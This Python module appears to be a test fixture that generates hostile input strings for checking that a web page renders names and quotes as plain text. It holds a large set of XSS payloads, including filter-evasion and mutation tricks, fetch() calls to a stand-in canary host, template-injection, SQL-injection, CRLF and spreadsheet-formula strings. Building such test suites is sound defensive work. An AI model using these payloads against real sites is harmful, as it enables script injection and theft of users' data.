"""Hostile texts: what a page, a feed or a reviewer might put where a name, a headline or a quote belongs.

Each would open a dialog, ask the canary host, or put a node into the page, if any field were not written as
plain text. They are made of parts, so that each sink is tried with each way of getting there.
"""

from __future__ import annotations

from itertools import product

CANARY = "canary.invalid"
_RUN = f"alert(1);fetch('//{CANARY}/x')"

_HANDLERS = (
    ("img", f"src=//{CANARY}/i.png", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onpageshow"),
    ("video", f"src=//{CANARY}/v", "onerror"),
    ("details open", "", "ontoggle"),
    ("input autofocus", "", "onfocus"),
    ("marquee", "", "onstart"),
    ("iframe", f"src=//{CANARY}/f", "onload"),
    ("math", "", "onclick"),
    ("style", "", "onload"),
)
_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "</style>",
    "</option></select>",
    "\x00",
)
_WHOLE = (
    f"<script>{_RUN}</script>",
    f"<script src=//{CANARY}/s.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"＜script＞{_RUN}＜/script＞",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style><path id=\"</style><img onerror={_RUN} src>\">",
    f"<base href=//{CANARY}/>",
    f'<meta http-equiv=refresh content="0;url=//{CANARY}/">',
    f'<link rel=stylesheet href="//{CANARY}/c.css">',
    f"<style>@import '//{CANARY}/c.css';</style>",
    f'<div style="background:url(//{CANARY}/b.png)">',
    f'<a href="javascript:{_RUN}">click</a>',
    f"<object data=//{CANARY}/o></object>",
    f"<embed src=//{CANARY}/e>",
    f'<form action=//{CANARY}/><button>go</button></form>',
    f'<button hx-get="//{CANARY}/" hx-trigger="load">x</button>',
    f'<div hx-on::load="{_RUN}"></div>',
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"` onfocus=`{_RUN}` autofocus=`",
    f"javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"JaVaScRiPt&colon;{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"//{CANARY}/",
    f"https://{CANARY}\\@example.org/",
    "{{ 7 * 7 }}{{ config }}{% debug %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "'; DROP TABLE incidents; --",
    '" OR "1"="1',
    "drone AND",
    'NEAR("a" "b", 2) *',
    "-x ^y (z",
    "\u202egnp.gro/\u202c<b>bidi</b>",
    "\u200b\ufeff<i>zero width</i>",
    "<" * 300,
    "A" * 2_000,
    "=HYPERLINK(\"http://" + CANARY + "\")",
    "]]><script>" + _RUN + "</script>",
    "<!--<img src=\"--><img src=x onerror=" + _RUN + "//\">",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>" + _RUN + "</script>",
    "<x onclick=" + _RUN + " tabindex=0>x</x>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(f"{out}<{tag} {source} {on}={_RUN}>" for (tag, source, on), out in product(_HANDLERS, _BREAKOUTS)),
    *_WHOLE,
)
"""Each once, in a fixed order."""
